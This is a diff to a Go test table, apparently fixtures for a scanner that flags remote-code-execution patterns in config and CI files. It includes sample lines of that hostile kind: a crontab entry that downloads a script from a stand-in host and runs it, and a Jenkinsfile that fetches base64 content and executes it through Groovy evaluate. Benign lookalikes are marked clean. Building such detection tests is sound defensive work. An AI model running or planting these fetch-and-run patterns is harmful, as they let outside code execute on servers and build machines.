@@ -143,6 +143,10 @@ var registry = []Rule{
 		{"deploy/app.service", "[Service]\nExecStartPre=-/usr/bin/mkdir -p /var/lib/app\nExecStart=/usr/bin/app --config /etc/app.toml\nRestart=always", 0, true},
 		{"etc/cron.d/backup", "# m h dom mon dow user command\n30 2 * * * root /usr/local/bin/backup --quiet >/dev/null 2>&1\n@reboot root /usr/local/bin/warm-cache", 0, true},
 		{"ops/crontab", "0 * * * * curl -fsSL https://x.invalid/j.sh -o /tmp/j.sh; sh /tmp/j.sh", 0, false},
+		// Jenkins's httpRequest fetches; a pipeline's evaluate runs Groovy.
+		{"Jenkinsfile", "node {\n  script {\n    def cfg = httpRequest(url: 'https://plugins.x.invalid/cfg', quiet: true).content\n    evaluate(new String(cfg.decodeBase64(), 'UTF-8'))\n  }\n}", 4, false},
+		{"Jenkinsfile", "node {\n  def r = httpRequest(url: 'https://api.example.com/status')\n  echo r.content\n  def v = readJSON text: r.content\n}", 0, true},
+		{"src/x.js", "const title = await page.evaluate(() => document.title)\nconst body = await fetch(url)\nconsole.log(title, body)", 0, true},
 		// PowerShell's call operator runs the program it names: fetched
 		// release data handed to a tool is its arguments; to a launcher
 		// (msiexec, a shell, an interpreter) it is what runs.
